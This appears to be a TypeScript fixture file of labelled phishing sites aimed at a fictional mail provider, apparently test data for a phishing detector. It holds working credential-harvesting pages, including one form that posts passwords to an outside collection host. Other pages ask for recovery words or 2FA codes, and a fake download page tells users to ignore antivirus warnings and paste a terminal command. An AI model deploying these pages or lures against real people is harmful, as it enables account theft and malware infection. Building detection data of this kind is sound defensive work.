import { builtForm } from '../frames/helping.ts';
import { field, footer, links, list, page } from '../frames/page.ts';
import { landing } from '../frames/selling.ts';
import { cardSignIn, darkSignIn, scriptedPage, splitSignIn, tableSignIn } from '../frames/sign-ins.ts';
import type { MeadowSite } from '../meadow-brands.ts';
import { photo, pictures } from '../meadow-pictures.ts';
import { invertedLogo, logoPng, logoSvg, paddedLogo } from '../meadow-logos.ts';

const twoSteps = `const f=document.forms[0];let step=1;f.onsubmit=e=>{if(step===1){e.preventDefault();step=2;document.getElementById('s1').hidden=true;document.getElementById('s2').hidden=false;document.getElementById('who').textContent=f.login.value}}`;

/** Kits against the mail provider. */
export const nimbrelKits: readonly MeadowSite[] = [
  {
    host: 'nirnbrel-mail.com',
    label: 'impostor',
    kind: 'redirect',
    brand: 'nimbrel',
    reason: 'A lookalike that does nothing but send people to a kit on a rented host.',
    ageDays: 4,
    foundBy: 'permutation',
    leadsTo: { host: 'portal-cc19.top', path: '/nm/' },
    pages: {
      '/': ({ urlOf }) => ({
        status: 302,
        headers: { location: urlOf('portal-cc19.top', '/nm/') },
        body: '',
      }),
    },
  },
  {
    host: 'nimbrel-webmail.surge.sh',
    label: 'impostor',
    kind: 'scripted kit',
    brand: 'nimbrel',
    reason: 'A sign-in in the name of the provider, built by a script on free hosting.',
    foundBy: 'certificate',
    isClear: true,
    pages: {
      '/': {
        body: scriptedPage({
          lang: 'en',
          title: 'Loading…',
          css: 'body{margin:0;font:16px Arial,"DejaVu Sans";background:#f3f2ff}.box{width:400px;margin:10vh auto;background:#fff;padding:34px;border:1px solid #d8d5f5}.box img{width:260px}input{width:100%;padding:12px;margin:8px 0;border:1px solid #999}button{background:#3b2fb5;color:#fff;border:0;padding:12px 28px;float:right}',
          build: `document.title='Sign in to Nimbrel-Mail';
app.append(h('div',{class:'box'},h('img',{src:'/assets/logo.png',alt:'Nimbrel-Mail'}),h('h2',{},'Session expired'),h('p',{},'Your Nimbrel-Mail session has timed out. Sign in again to read 3 held messages.'),
h('form',{method:'post',action:'https://nm-collect.sheetform.io/v1/c'},h('input',{name:'email',type:'email',placeholder:'name@nimbrel.email'}),h('input',{name:'password',type:'password',placeholder:'Password'}),h('button',{},'Sign in'))));`,
        }),
      },
      ...pictures({ '/assets/logo.png': () => logoPng('nimbrel') }),
    },
  },
  {
    host: 'webmail-nimbrel.info',
    label: 'impostor',
    kind: 'two-step sign-in',
    brand: 'nimbrel',
    reason: 'Asks for the address first and for the password after that, in the name of the provider.',
    ageDays: 9,
    foundBy: 'certificate',
    isClear: true,
    pages: {
      '/': {
        body: cardSignIn({
          lang: 'en',
          title: 'Nimbrel-Mail | Sign in',
          mark: logoSvg('nimbrel').replace('width="560" height="110"', 'width="280" height="55"'),
          colour: '#3b2fb5',
          ground: '#f6f5fc',
          heading: 'Sign in',
          lead: 'to continue to your mailbox',
          form: `<div id="s1">${field('Email address', 'login', 'email')}<button>Next</button></div><div id="s2" hidden><p id="who"></p>${field('Password', 'pw', 'password')}<button>Sign in</button></div>`,
          action: '/auth/submit',
          below: links(['Forgot address?', '/f'], ['Create account', '/c'], ['Sign in with a code', '/o']),
          footer: footer('en', 'Nimbrel-Mail'),
          script: twoSteps,
        }),
      },
    },
  },
  {
    host: 'nimbrel-mail.account-storage.net',
    label: 'impostor',
    kind: 'storage notice',
    brand: 'nimbrel',
    reason: 'Frightens people in three languages with a full mailbox, to get their passwords.',
    ageDays: 150,
    foundBy: 'report',
    isClear: true,
    pages: {
      '/': {
        body: page(
          {
            lang: 'fr',
            title: 'Nimbrel-Mail – Votre boîte est pleine / Su buzón está lleno / Casella piena',
            css: 'body{font:15px Arial,"DejaVu Sans";margin:0;background:#fff}.top{border-bottom:5px solid #ff6b57;padding:12px 30px}.top img{height:60px}.bar{background:#ddd;height:22px;margin:10px 30px;width:600px}.bar i{display:block;background:#d22;height:22px;width:98%}.three{display:flex;gap:24px;padding:0 30px}.three div{flex:1}form{margin:26px 30px;padding:20px;background:#f4f3fb;max-width:560px}input{display:block;width:100%;padding:9px;margin-bottom:10px}button{background:#3b2fb5;color:#fff;padding:11px 24px;border:0}',
          },
          `<div class="top"><img src="/n.png" alt="logo"></div><div class="bar"><i></i></div><p style="margin-left:30px">14,7 GB / 15 GB</p>
<div class="three"><div><h2>Français</h2><p>Votre boîte Nimbrel-Mail est presque pleine. Confirmez votre compte pour recevoir gratuitement 10 Go de plus, sinon vos nouveaux messages seront refusés.</p></div>
<div><h2>Español</h2><p>Su buzón de Nimbrel-Mail está casi lleno. Confirme su cuenta para recibir 10 GB más gratis; de lo contrario rechazaremos los mensajes nuevos.</p></div>
<div><h2>Italiano</h2><p>La tua casella Nimbrel-Mail è quasi piena. Conferma l’account per avere altri 10 GB gratis, altrimenti i nuovi messaggi saranno respinti.</p></div></div>
<form method="post" action="/upgrade">${field('Adresse / Dirección / Indirizzo', 'u', 'email')}${field('Mot de passe / Contraseña / Password', 'p', 'password')}<button>OK +10 GB</button></form>${footer('fr', 'Nimbrel-Mail')}`,
        ),
      },
      ...pictures({ '/n.png': () => paddedLogo('nimbrel', '#ffffff') }),
    },
  },
  {
    host: 'nimbrel-mail.com-verify.cc',
    label: 'impostor',
    kind: 'subdomain kit',
    brand: 'nimbrel',
    reason:
      'The official name as the start of an unrelated domain, with an old webmail that keeps passwords.',
    foundBy: 'certificate',
    isClear: true,
    pages: {
      '/': {
        body: tableSignIn({
          lang: 'nl',
          title: 'Nimbrel-Mail Webmail :: Welkom',
          mark: '<img src="/skins/logo.png" width="240" alt="Nimbrel-Mail">',
          colour: '#3b2fb5',
          ground: '#221c66',
          heading: 'Welkom bij Nimbrel-Mail Webmail',
          lead: 'Beveiligde verbinding',
          rows: [
            ['Gebruikersnaam', '<input name="_user" size="30">'],
            ['Wachtwoord', '<input name="_pass" type="password" size="30">'],
            ['Herhaal wachtwoord', '<input name="_pass2" type="password" size="30">'],
          ],
          form: '<input type="submit" value="Account verifiëren">',
          action: '/?_task=login',
          below: 'Niet-geverifieerde accounts worden vrijdag uitgeschakeld.',
          news: '<b>Bericht van de beheerder</b><br><br>Wij verhuizen alle postbussen naar een nieuwe server. Verifieer uw account om geen berichten te verliezen. Dit duurt minder dan een minuut.',
          footer: '© 2026 Nimbrel-Mail Helpdesk',
        }),
      },
      ...pictures({ '/skins/logo.png': () => invertedLogo('nimbrel') }),
    },
  },
  {
    host: 'nimbre1-mail.com',
    label: 'impostor',
    kind: 'recovery phrase',
    brand: 'nimbrel',
    reason: 'Asks for the recovery words of the mailbox in the name of the provider.',
    ageDays: 1,
    foundBy: 'permutation',
    isClear: true,
    pages: {
      '/': {
        body: darkSignIn({
          lang: 'en',
          title: 'Recover your vault – Nimbrel-Mail',
          mark: '<img src="/brand.png" alt="Nimbrel-Mail">',
          colour: '#6f5cff',
          ground: '#101014',
          heading: 'Recover your encrypted vault',
          lead: 'A new device tried to read your mail. Enter the 12 recovery words that Nimbrel-Mail gave you when you signed up, so that we can move your vault to new keys.',
          form: `<label for="w">Recovery words, separated by spaces</label><textarea id="w" name="words" rows="4"></textarea>${field('Nimbrel address', 'address', 'email')}${field('Current password', 'pw', 'password')}<button>RECOVER VAULT</button>`,
          action: '/recover',
          below: 'The words never leave your device.',
          footer: footer('en', 'Nimbrel-Mail'),
        }),
      },
      ...pictures({ '/brand.png': () => logoPng('nimbrel', { ink: '#d9d5ff', accent: '#ff8f80' }) }),
    },
  },
  {
    host: 'nimbrelmailteam.formbase.site',
    label: 'impostor',
    kind: 'built form',
    brand: 'nimbrel',
    reason: 'A form on free hosting that asks for the password as if the provider did.',
    foundBy: 'report',
    isClear: true,
    pages: {
      '/': {
        body: builtForm({
          lang: 'pt',
          title: 'Atualização da caixa de correio Nimbrel-Mail',
          mark: '<p style="font:300 34px Arial;color:#3b2fb5">nimbrel<b style="color:#ff6b57">-</b><b>mail</b></p>',
          colour: '#5b50c9',
          heading: 'Atualização obrigatória da caixa de correio',
          lead: 'A equipe Nimbrel-Mail está atualizando todas as contas para a versão 2026. Preencha o formulário até sexta-feira para não perder o acesso.',
          questions: [
            field('1. Endereço de e-mail Nimbrel', 'q1', 'email'),
            field('2. Senha atual', 'q2', 'text'),
            field('3. Confirme a senha', 'q3', 'text'),
            field('4. Número de celular', 'q4', 'tel'),
          ],
          action: '/f/98213/responses',
          button: 'Enviar',
          footer: '<footer>Nunca envie senhas pelo formbase. Crie o seu próprio formulário grátis.</footer>',
        }),
      },
    },
  },
  {
    host: 'nimbrel-desktop.download',
    label: 'impostor',
    kind: 'fake download',
    brand: 'nimbrel',
    reason: 'Offers a program in the name of the provider, which is malware.',
    foundBy: 'search',
    pages: {
      '/': {
        body: landing({
          lang: 'en',
          title: 'Download Nimbrel-Mail for Windows and Mac – Official Desktop App',
          mark: '<img src="/i/nm.png" alt="Nimbrel-Mail">',
          colour: '#3b2fb5',
          nav: links(['Features', '#f'], ['Download', '#d'], ['FAQ', '#q']),
          hero: '<h1>Nimbrel-Mail for your desktop. Private mail, faster than ever.</h1><a class="button" href="/NimbrelMail-Setup-4.2.exe" download>Download for Windows (64-bit)</a> <a class="button" href="/NimbrelMail.dmg" download>Download for macOS</a>',
          sections: [
            `<div class="cards"><div><h3>Offline mail</h3><p>Read and write without a connection.</p></div><div><h3>Encrypted</h3><p>Messages are locked before they leave your device.</p></div><div><h3>One inbox</h3><p>All your accounts in one window.</p></div></div><img src="/i/shot.jpg" alt="Screenshot">`,
            `<h2>How to install</h2>${list('Open the file that you have downloaded.', 'If your antivirus warns you, choose “Run anyway”: the warning is a known mistake.', 'Open the terminal and paste the line that the installer shows.')}`,
            '<h2>Questions</h2><h3>Is it free?</h3><p>Yes, for all Nimbrel-Mail accounts.</p><h3>Which version is this?</h3><p>4.2.0, signed by Nimbrel-Mail.</p>',
          ],
          footer: footer('en', 'Nimbrel-Mail'),
        }),
      },
      ...pictures({ '/i/nm.png': () => logoPng('nimbrel'), '/i/shot.jpg': () => photo(21) }),
    },
  },
  {
    host: 'nimbrel-mail-beveiliging.nl',
    label: 'impostor',
    kind: 'credential kit',
    brand: 'nimbrel',
    reason:
      'A warning about a foreign sign-in, in the name of the provider, before a form that takes the password.',
    foundBy: 'permutation',
    isClear: true,
    pages: {
      '/': ({ urlOf }) => ({
        body: splitSignIn({
          lang: 'nl',
          title: 'Controleer uw Nimbrel-Mail account',
          mark: `<img src="${urlOf('nimbrel-mail.com', '/assets/nimbrel-mail.png')}" alt="Nimbrel-Mail">`,
          colour: '#3b2fb5',
          ground: '#221c66',
          photo: '/bg.jpg',
          saying: 'Iemand uit Minsk heeft zich aangemeld bij uw account.',
          heading: 'Was u dit niet?',
          lead: 'Meld u aan en wijzig direct uw wachtwoord.',
          form: `${field('E-mailadres', 'e', 'email')}${field('Wachtwoord', 'w', 'password')}${field('Code uit uw app', 'c', 'text')}<button>Account beveiligen</button>`,
          action: '/check.php',
          below: links(['Ja, ik was het', '/ok']),
          footer: footer('nl', 'Nimbrel-Mail Beveiliging'),
        }),
      }),
      ...pictures({ '/bg.jpg': () => photo(8) }),
    },
  },
];
